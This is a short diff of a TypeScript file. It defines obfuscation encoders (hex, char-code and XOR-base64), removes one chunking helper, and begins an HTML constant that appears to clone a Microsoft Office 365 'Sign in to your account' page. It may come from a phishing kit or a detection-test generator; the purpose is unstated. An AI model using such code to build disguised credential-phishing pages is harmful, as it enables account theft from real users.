@@ -7,7 +7,6 @@ const pct = (s: string) => Array.from(Buffer.from(s, 'utf8')).map((b) => '%' + b
 const hexEsc = (s: string) => Array.from(s).map((c) => { const n = c.charCodeAt(0); return n < 256 ? '\\x' + n.toString(16).padStart(2, '0') : '\\u' + n.toString(16).padStart(4, '0'); }).join('');
 const charCodes = (s: string) => Array.from(s).map((c) => c.charCodeAt(0)).join(',');
 const xorB64 = (s: string, key: string) => Buffer.from(Array.from(Buffer.from(s, 'utf8')).map((b, i) => b ^ key.charCodeAt(i % key.length))).toString('base64');
-const pieces = (s: string, n: number) => { const out: string[] = []; for (let i = 0; i < s.length; i += n) out.push(s.slice(i, i + n)); return out; };
 
 const o365Inner = `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Sign in to your account</title>
 <link rel="icon" href="https://aadcdn.msftauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico">
